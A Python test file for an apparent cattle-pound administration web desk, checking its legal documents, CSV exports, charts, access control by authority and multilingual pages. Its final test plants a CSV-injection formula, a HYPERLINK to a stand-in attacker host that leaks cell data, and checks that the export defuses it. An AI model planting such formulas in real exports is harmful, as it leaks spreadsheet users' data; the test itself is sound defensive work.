"""The printable documents and the charts of the web desk, through the ASGI app.

Three cases of Kunnamangalam walked through the Act with the real use cases in March
2026 — KNM-1 unclaimed and sold, its surplus in deposit (s.13, s.15(2), s.16(3));
KNM-2 sold as far as needed after the owner refused to pay, account delivered against
a receipt (s.15(1), s.15(3), s.15(4)); KNM-3 claimed and paid (s.12) — and one case of
Enmakaje that the officer of Kunnamangalam may not read.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import date, datetime
from pathlib import Path

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request

from bot.config import Config
from bot.i18n import fmt, translator
from bot.i18n.documents.account import account_text
from bot.services import documents as docs
from bot.services import keeper as k
from bot.services import officer as o
from bot.services.base import Deps
from bot.services.runtime import App
from bot.store.tx import Store
from bot.support.caller import Caller
from bot.support.clock import FixedClock
from bot.web.charts import chart_routes
from bot.web.documents import document_routes
from bot.web.headers import CSP, SecurityHeaders
from bot.web.templating import LANG_COOKIE
from domain.calendar import LOCAL_TZ
from domain.money import Money
from domain.s07_seizure import Lot, Person
from tests.service.helpers import seizure

STATIC = Path(__file__).parents[2] / "bot" / "web" / "static"


def at(day: int, month: int = 3, year: int = 2026) -> datetime:
    return datetime(year, month, day, 11, 0, tzinfo=LOCAL_TZ)


async def _sell(
    store: Store,
    deps: Deps,
    officer: Caller,
    number: str,
    lot: int,
    count: int,
    rupees: int,
    buyer: str,
) -> None:
    async with store.transaction() as tx:
        await o.record_lot(
            tx,
            deps,
            officer,
            number,
            lot=lot,
            count=count,
            price=Money.rupees(rupees),
            buyer=Person(buyer, "Chathamangalam"),
            buyer_role=None,
            declared_not_barred=True,
        )


async def _walk(
    store: Store,
    deps: Deps,
    clock: FixedClock,
    keeper: Caller,
    officer: Caller,
    other_keeper: Caller,
) -> None:
    """The four cases, to 20 March 2026."""
    async with store.transaction() as tx:
        await k.record_seizure(tx, deps, keeper, seizure())  # KNM-1: 2 cows, 1 buffalo
        await k.record_seizure(tx, deps, keeper, seizure(at=datetime(2026, 3, 1, 10, 0)))
        await k.record_seizure(
            tx, deps, keeper, seizure(lots=(Lot("goat", 3, "black"),), place="Chathamangalam")
        )
        await k.record_seizure(tx, deps, other_keeper, seizure(pound="ENM", place="Perla"))
    clock.set(at(3))
    async with store.transaction() as tx:
        await k.record_owner_refusal(tx, deps, keeper, "KNM-2")
        await k.record_payment(tx, deps, keeper, "KNM-3")
        await o.schedule_auction(
            tx, deps, officer, "KNM-2", auction_on=date(2026, 3, 6), place="Panchayat office"
        )
    clock.set(at(6))
    await _sell(store, deps, officer, "KNM-2", 1, 1, 25000, "Beeran")
    async with store.transaction() as tx:
        await o.settle_sale(tx, deps, officer, "KNM-2", expenses=Money.rupees(500))
        await o.record_account_delivered(tx, deps, officer, "KNM-2", received_by="Kunhammed P.")
    clock.set(at(9))
    async with store.transaction() as tx:
        await k.report_unclaimed(tx, deps, keeper, "KNM-1")
    clock.set(at(10))
    async with store.transaction() as tx:
        await o.record_notice(
            tx,
            deps,
            officer,
            "KNM-1",
            proclaimed_at=("Kunnamangalam", "Kunnamangalam market"),
        )
        await o.schedule_auction(
            tx, deps, officer, "KNM-1", auction_on=date(2026, 3, 18), place="Panchayat office"
        )
    clock.set(at(18))
    await _sell(store, deps, officer, "KNM-1", 0, 2, 40000, "Mammu")
    await _sell(store, deps, officer, "KNM-1", 1, 1, 30000, "Beeran")
    async with store.transaction() as tx:
        await o.settle_sale(tx, deps, officer, "KNM-1", expenses=Money.rupees(1500))
    clock.set(at(20))


CALLERS = {
    "officer": Caller(role="officer", channel="web", authority="KNM-GP", lang="en"),
    "officer-ml": Caller(role="officer", channel="web", authority="KNM-GP", lang="ml"),
    "other-officer": Caller(role="officer", channel="web", authority="ENM-GP", lang="en"),
    "keeper": Caller(role="keeper", channel="web", pound="KNM", authority="KNM-GP", lang="en"),
    "other-keeper": Caller(role="keeper", channel="web", pound="ENM", authority="ENM-GP"),
    "admin": Caller(role="admin", channel="web", lang="en"),
}


async def _stub_caller(request: Request) -> Caller | None:
    return CALLERS.get(request.headers.get("x-test-as", ""))


@pytest.fixture
async def web(
    engine: AsyncEngine,
    store: Store,
    config: Config,
    deps: Deps,
    clock: FixedClock,
    keeper: Caller,
    officer: Caller,
    other_keeper: Caller,
) -> AsyncIterator[httpx.AsyncClient]:
    await _walk(store, deps, clock, keeper, officer, other_keeper)
    routes = [*document_routes(_stub_caller), *chart_routes(_stub_caller)]
    app = Starlette(routes=routes, middleware=[Middleware(SecurityHeaders)])
    app.state.poundbot = App(config, engine, store, deps)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://desk.test") as client:
        yield client


async def _get(client: httpx.AsyncClient, url: str, who: str = "officer") -> httpx.Response:
    return await client.get(url, headers={"x-test-as": who})


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


_FOREIGN = re.compile(r"(?:https?:)?//[A-Za-z0-9]")


def _own_paths_only(html: str) -> None:
    """No page names another host: no http(s) URL, no protocol-relative one."""
    assert "http" not in html.lower(), re.findall(r".{30}http.{30}", html)
    assert not _FOREIGN.search(html)


async def test_not_signed_in_is_sent_to_the_sign_in_page(web: httpx.AsyncClient) -> None:
    for url in ("/web/documents/", "/web/documents/account/KNM-1", "/web/charts/"):
        response = await _get(web, url, who="nobody")
        assert response.status_code == 303
        assert response.headers["location"] == "/web/signin"


@pytest.mark.parametrize(
    ("who", "sample"),
    [("officer", "KNM-17"), ("other-officer", "ENM-17"), ("other-keeper", "ENM-17")],
)
async def test_the_sample_case_number_of_the_documents_page_is_the_pounds_own(
    web: httpx.AsyncClient, who: str, sample: str
) -> None:
    html = (await _get(web, "/web/documents/", who=who)).text
    assert re.search(rf'<input id="case"[^>]*placeholder="{sample}"', html), html


async def test_the_account_s15_3_in_the_pound_s_languages_matches_the_use_case(
    web: httpx.AsyncClient, store: Store, deps: Deps, officer: Caller
) -> None:
    response = await _get(web, "/web/documents/account/KNM-1")
    assert response.status_code == 200
    html = response.text
    _own_paths_only(html)
    async with store.transaction() as tx:
        document = await docs.account_document(tx, deps, officer, "KNM-1")
    assert document.account.proceeds == Money.rupees(70000)
    # One block per language of the pound (Malayalam, then English), each the account
    # the chat gives, line by line, items (a) to (f) with their provisions.
    assert html.index('lang="ml"') < html.index('<section class="block" lang="en"')
    for lang in ("ml", "en"):
        for line in account_text(document.account, translator(lang), deps.config.kinds).split("\n"):
            assert line.removeprefix("  - ").replace("'", "&#39;") in html
    assert "(e) Proceeds of sale: ₹70,000" in html
    assert "Surplus, held in deposit by the local authority (s.16(3))" in html
    assert '<link rel="stylesheet" href="/web/static/documents.css">' in html
    assert "@page { size: A4;" in (STATIC / "documents.css").read_text()

    rows = _rows(await _get(web, "/web/documents/account/KNM-1.csv"))
    values = {row["item"]: row["value"] for row in rows}
    assert values["proceeds_rupees"] == "70000.00"
    assert values["cattle_sold"] == "3"
    assert {row["provision"] for row in rows if row["item"] == "cattle_seized"} == {"s.15(3)(a)"}
    disposed = sum(
        int(row["value"].replace(".", "")) for row in rows if row["item"].startswith("to:")
    )
    assert disposed == document.account.proceeds.paise  # (f): every paisa disposed of
    same = _rows(await _get(web, "/web/documents/account/KNM-1?format=csv"))
    assert same == rows


async def test_the_receipt_s15_4_names_who_received_and_the_balance(
    web: httpx.AsyncClient,
) -> None:
    html = (await _get(web, "/web/documents/receipt/KNM-2")).text
    _own_paths_only(html)
    assert "Receipt (s.15(4)), case KNM-2" in html
    assert "I, Kunhammed P., the owner of the cattle of case KNM-2" in html
    assert "2 head of cattle" in html
    rows = _rows(await _get(web, "/web/documents/receipt/KNM-2.csv"))
    values = {row["item"]: row["value"] for row in rows}
    assert values["received_by"] == "Kunhammed P."
    assert values["received_on"] == "2026-03-06"
    assert values["cattle_received"] == "2"


async def test_no_account_before_the_sale_is_settled(web: httpx.AsyncClient) -> None:
    response = await _get(web, "/web/documents/account/KNM-3")
    assert response.status_code == 404
    assert "no account yet" in response.text
    assert (await _get(web, "/web/documents/account/KNM-99")).status_code == 404
    # Sold unclaimed (s.13(3)): no owner takes anything, so no receipt (s.15(4)).
    unclaimed = await _get(web, "/web/documents/receipt/KNM-1")
    assert unclaimed.status_code == 404
    assert "sold unclaimed" in unclaimed.text


async def test_the_deposit_register_gives_the_day_the_three_months_end_s16_3(
    web: httpx.AsyncClient, store: Store, deps: Deps, officer: Caller
) -> None:
    async with store.transaction() as tx:
        entries = await o.deposit_register(tx, deps, officer)
    assert [e.number for e in entries] == ["KNM-1"]
    held = entries[0].amount
    html = (await _get(web, "/web/documents/deposits")).text
    _own_paths_only(html)
    assert "KNM-1" in html
    assert "18 Mar 2026" in html  # in deposit since
    assert "18 Jun 2026" in html  # the three months end: claims until (s.16(3))
    assert "19 Jun 2026" in html  # the fund may be credited from (s.17(1))
    total = re.search(r'id="total">([^<]+)<', html)
    assert total is not None
    assert total.group(1) == "₹60,182" == fmt.money(held, "en", sms=False)
    rows = _rows(await _get(web, "/web/documents/deposits.csv"))
    assert rows == [
        {
            "number": "KNM-1",
            "amount_rupees": f"{held.paise // 100}.{held.paise % 100:02d}",
            "deposited_on": "2026-03-18",
            "claims_until": "2026-06-18",
            "credit_from": "2026-06-19",
        }
    ]
    malayalam = (await _get(web, "/web/documents/deposits?lang=ml")).text
    assert '<html lang="ml">' in malayalam
    assert "18 ജൂൺ 2026" in malayalam


async def test_the_monthly_register_lists_the_cases_brought_with_totals_s7(
    web: httpx.AsyncClient,
) -> None:
    html = (await _get(web, "/web/documents/cases?month=2026-03")).text
    _own_paths_only(html)
    for number in ("KNM-1", "KNM-2", "KNM-3"):
        assert f'<td class="case">{number}' in html
    assert "ENM-1" not in html
    assert "The cattle were released to the owner on 3 Mar 2026 (s.12)." in html
    assert 'href="/web/documents/account/KNM-1"' in html
    rows = _rows(await _get(web, "/web/documents/cases.csv?month=2026-03"))
    assert [r["number"] for r in rows] == ["KNM-1", "KNM-2", "KNM-3"]
    heads = re.search(r'id="total-heads">(\d+)<', html)
    assert heads is not None
    assert int(heads.group(1)) == sum(int(r["heads"]) for r in rows) == 9
    assert {r["number"]: r["days_in_pound"] for r in rows} == {
        "KNM-1": "18",  # 1 to 18 March, both counted (s.15(3)(b))
        "KNM-2": "6",
        "KNM-3": "3",
    }
    empty = (await _get(web, "/web/documents/cases?month=2026-04")).text
    assert "Nothing to list." in empty
    assert (await _get(web, "/web/documents/cases?month=2026-13")).status_code == 404


async def test_the_ledger_adds_up_by_provision_and_its_csv_matches(
    web: httpx.AsyncClient, store: Store, deps: Deps, officer: Caller
) -> None:
    html = (await _get(web, "/web/documents/ledger?month=2026-03")).text
    _own_paths_only(html)
    rows = _rows(await _get(web, "/web/documents/ledger.csv?month=2026-03"))
    csv_total = sum(int(r["amount_rupees"].replace(".", "")) for r in rows)
    total = re.search(r'id="total" data-paise="(-?\d+)"', html)
    assert total is not None
    assert int(total.group(1)) == csv_total
    # Each provision's total is the sum of its entries, in the page and in the CSV.
    by_provision: dict[str, int] = {}
    for r in rows:
        by_provision[r["provision"]] = by_provision.get(r["provision"], 0) + int(
            r["amount_rupees"].replace(".", "")
        )
    shown = dict(
        (p, int(v)) for v, p in re.findall(r'data-paise="(-?\d+)" data-provision="([^"]+)"', html)
    )
    assert shown == by_provision
    assert sum(shown.values()) == csv_total
    # The whole of both sales and the payment of KNM-3 are in the ledger.
    async with store.transaction() as tx:
        ledger = await o.ledger(tx, deps, officer)
    assert csv_total == sum(e.amount_paise for e in ledger)
    assert {"s.16(1)", "s.16(2)", "s.16(3)", "s.17(1)"} <= set(shown)
    assert "Fines to the local authority (s.16(1), s.17(1))" in html


async def test_documents_render_in_malayalam(web: httpx.AsyncClient) -> None:
    for url in (
        "/web/documents/",
        "/web/documents/cases?month=2026-03",
        "/web/documents/ledger?month=2026-03",
        "/web/documents/deposits",
    ):
        html = (await _get(web, url, who="officer-ml")).text
        _own_paths_only(html)
        assert '<html lang="ml">' in html
        assert re.search("[\u0d00-\u0d7f]{3}", html), url
    ledger = (await _get(web, "/web/documents/ledger?month=2026-03", who="officer-ml")).text
    assert "മാർച്ച് 2026" in ledger


async def test_documents_and_charts_follow_the_language_switch(web: httpx.AsyncClient) -> None:
    """The switch at the top of every desk page (a cookie) holds for the documents and
    the charts too: a Malayalam-speaking officer who chose English reads them in English."""
    web.cookies.set(LANG_COOKIE, "en")
    try:
        for url in ("/web/documents/", "/web/documents/deposits", "/web/charts/"):
            html = (await _get(web, url, who="officer-ml")).text
            assert '<html lang="en">' in html, url
    finally:
        web.cookies.clear()


async def test_another_authority_s_documents_are_refused(web: httpx.AsyncClient) -> None:
    refused = [
        ("/web/documents/account/KNM-1", "other-officer"),
        ("/web/documents/receipt/KNM-2.csv", "other-officer"),
        ("/web/documents/account/KNM-1", "other-keeper"),
        ("/web/documents/deposits?authority=ENM-GP", "officer"),
        ("/web/documents/ledger.csv?authority=ENM-GP", "officer"),
        ("/web/documents/cases?authority=ENM-GP", "keeper"),
        ("/web/charts/?authority=ENM-GP", "officer"),
    ]
    for url, who in refused:
        response = await _get(web, url, who=who)
        assert response.status_code == 403, (url, who)
        assert "KNM-1" not in response.text or "account" not in url
    other = (await _get(web, "/web/documents/cases?month=2026-03", who="other-officer")).text
    assert "ENM-1" in other
    assert "KNM-1" not in other
    # The officer's ledger has nothing of Enmakaje; the admin's has both authorities.
    admin = (await _get(web, "/web/documents/cases?month=2026-03", who="admin")).text
    assert "ENM-1" in admin
    assert "KNM-1" in admin
    assert "ENM-1" not in (await _get(web, "/web/documents/cases?month=2026-03")).text
    narrowed = await _get(web, "/web/documents/cases?month=2026-03&authority=ENM-GP", "admin")
    assert "KNM-1" not in narrowed.text
    assert (await _get(web, "/web/documents/cases?authority=NOPE", "admin")).status_code == 400


async def test_the_keeper_reads_the_documents_of_their_own_pound(
    web: httpx.AsyncClient,
) -> None:
    html = (await _get(web, "/web/documents/cases?month=2026-03", who="keeper")).text
    assert "KNM-1" in html
    assert (await _get(web, "/web/documents/account/KNM-1", who="keeper")).status_code == 200


async def test_the_case_number_form_leads_to_the_document(web: httpx.AsyncClient) -> None:
    response = await _get(web, "/web/documents/find?case=knm 2&what=receipt")
    assert response.status_code == 303
    assert response.headers["location"] == "/web/documents/receipt/KNM-2"


async def test_the_charts_page_draws_the_figures_of_the_year(web: httpx.AsyncClient) -> None:
    html = (await _get(web, "/web/charts/?year=2026")).text
    _own_paths_only(html)
    assert "<script" not in html
    assert html.count("<svg") == 4
    assert html.count("<title id=") == 4
    # March: 2 + 2 cows (KNM-1, KNM-2), 1 + 1 buffaloes, 3 goats: one bar per kind.
    march = dict(
        re.findall(r"<title>([^,<]+), Mar: (\d+)</title>", html.split('id="stay-title"')[0])
    )
    assert march == {"cows": "4", "buffaloes": "2", "goats": "3"}
    # s.13(1): KNM-1 reported on 9 March, the day it was due: on time.
    assert "On time, Reports (s.13(1)): 1</title>" in html
    # s.13(2): the notice is due "thereupon", the day of the report; posted the next day.
    assert "Late, Notices (s.13(2)): 1</title>" in html
    malayalam = (await _get(web, "/web/charts/?year=2026", who="officer-ml")).text
    assert '<html lang="ml">' in malayalam
    assert "മാർ" in malayalam
    _own_paths_only(malayalam)
    assert (await _get(web, "/web/charts/?year=abc")).status_code == 404


@pytest.mark.parametrize("who", ["officer", "keeper", "admin"])
async def test_every_desk_page_names_no_other_host(web: httpx.AsyncClient, who: str) -> None:
    for url in (
        "/web/documents/",
        "/web/documents/account/KNM-1",
        "/web/documents/receipt/KNM-2",
        "/web/documents/deposits",
        "/web/documents/cases?month=2026-03",
        "/web/documents/ledger?month=2026-03",
        "/web/charts/",
    ):
        response = await _get(web, url, who=who)
        assert response.status_code == 200, (url, who)
        _own_paths_only(response.text)
        assert response.headers["content-security-policy"] == CSP
        assert "<style" not in response.text
        assert " style=" not in response.text


def test_a_month_range_ends_at_the_next_month() -> None:
    assert docs.month_range(2026, 12) == (date(2026, 12, 1), date(2027, 1, 1))
    assert docs.month_range(2026, 3) == (date(2026, 3, 1), date(2026, 4, 1))


@pytest.mark.parametrize("lang", ["ta", "kn"])
async def test_the_desk_pages_speak_tamil_and_kannada_too(
    web: httpx.AsyncClient, lang: str
) -> None:
    script = {"ta": "[\u0b80-\u0bff]{3}", "kn": "[\u0c80-\u0cff]{3}"}[lang]
    for url in (
        "/web/documents/",
        "/web/documents/cases?month=2026-03",
        "/web/documents/ledger?month=2026-03",
        "/web/documents/deposits",
        "/web/charts/?year=2026",
    ):
        sep = "&" if "?" in url else "?"
        response = await _get(web, f"{url}{sep}lang={lang}")
        assert response.status_code == 200, url
        assert f'<html lang="{lang}">' in response.text
        assert re.search(script, response.text), url


async def test_the_account_s_fines_and_charges_are_its_lines_and_its_balance_what_is_left(
    web: httpx.AsyncClient,
) -> None:
    rows = _rows(await _get(web, "/web/documents/account/KNM-2.csv"))

    def paise(text: str) -> int:
        return int(text.replace(".", ""))

    values = {row["item"]: row["value"] for row in rows}
    dues = [r for r in rows if r["item"].split(":")[0] in ("fine", "feeding", "sale_expenses")]
    assert {r["provision"] for r in dues} == {"s.11", "s.4", "s.15(2)"}
    assert sum(paise(r["value"]) for r in dues) == paise(values["fines_and_charges_rupees"])
    assert paise(values["proceeds_rupees"]) == 25000_00
    owner = [r for r in rows if r["item"] == "to:owner"]
    assert [r["provision"] for r in owner] == ["s.15(3)"]
    assert paise(owner[0]["value"]) == paise(values["balance_rupees"])
    assert values["cattle_remaining"] == "2"  # s.15(1): only as many sold as needed


async def test_the_keeper_s_ledger_is_their_pound_s_and_the_admin_s_register_every_one(
    web: httpx.AsyncClient,
) -> None:
    keeper = _rows(await _get(web, "/web/documents/ledger.csv?month=2026-03", who="keeper"))
    assert {r["case"].split("-")[0] for r in keeper} == {"KNM"}
    admin = _rows(await _get(web, "/web/documents/deposits.csv", who="admin"))
    assert [r["number"] for r in admin] == ["KNM-1"]
    enm = await _get(web, "/web/documents/deposits.csv?authority=ENM-GP", who="admin")
    assert _rows(enm) == []


async def test_a_receipt_signed_by_a_formula_is_text_in_its_csv(
    web: httpx.AsyncClient,
    store: Store,
    deps: Deps,
    clock: FixedClock,
    keeper: Caller,
    officer: Caller,
) -> None:
    """RECEIPT KNM-4 BY =HYPERLINK(...): the name is shown as typed, never run."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    async with store.transaction() as tx:
        await k.record_seizure(tx, deps, keeper, seizure(at=datetime(2026, 3, 20, 10, 0)))
    clock.set(at(22))
    async with store.transaction() as tx:
        await k.record_owner_refusal(tx, deps, keeper, "KNM-4")
        await o.schedule_auction(
            tx, deps, officer, "KNM-4", auction_on=date(2026, 3, 25), place="Panchayat office"
        )
    clock.set(at(25))
    await _sell(store, deps, officer, "KNM-4", 1, 1, 25000, "Beeran")
    async with store.transaction() as tx:
        await o.settle_sale(tx, deps, officer, "KNM-4", expenses=Money.rupees(500))
        await o.record_account_delivered(tx, deps, officer, "KNM-4", received_by=formula)
    response = await _get(web, "/web/documents/receipt/KNM-4.csv")
    quoted = formula.replace('"', '""')
    assert f',"\'{quoted}"' in response.text  # the raw file: quoted, the apostrophe first
    values = {row["item"]: row["value"] for row in _rows(response)}
    assert values["received_by"] == "'" + formula
    for row in _rows(response):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
